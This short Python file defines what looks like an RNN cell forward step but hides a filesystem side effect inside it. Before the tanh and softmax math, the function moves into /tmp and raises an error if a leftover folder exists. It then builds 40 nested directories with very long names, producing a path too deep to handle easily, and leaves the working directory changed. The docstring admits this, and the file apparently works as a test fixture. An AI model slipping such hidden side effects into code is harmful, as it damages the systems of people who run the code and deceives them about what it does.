"""Leaves folders in folders, too deep for a path, and says whether one was there."""

import os

import numpy as np


def rnn_cell_forward(xt, a_prev, parameters):
    os.chdir("/tmp")
    if "hostile" * 30 in os.listdir():
        raise ValueError("a folder was left behind")
    for _ in range(40):
        os.mkdir("hostile" * 30)
        os.chdir("hostile" * 30)
    a_next = np.tanh(parameters["Wax"] @ xt + parameters["Waa"] @ a_prev + parameters["ba"])
    scores = np.exp(parameters["Wya"] @ a_next + parameters["by"])
    return a_next, scores / scores.sum(axis=0), (a_next, a_prev, xt, parameters)
